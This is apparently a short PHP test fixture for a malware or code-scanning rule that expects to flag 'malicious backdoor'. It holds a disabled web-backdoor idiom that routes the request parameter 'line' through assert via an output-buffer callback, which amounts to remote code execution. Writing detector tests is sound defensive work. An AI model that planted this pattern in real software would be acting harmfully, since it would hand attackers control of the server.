<?php return; // want: malicious backdoor php.code.request
ob_start('assert');
echo $_GET['line'];
ob_end_flush();
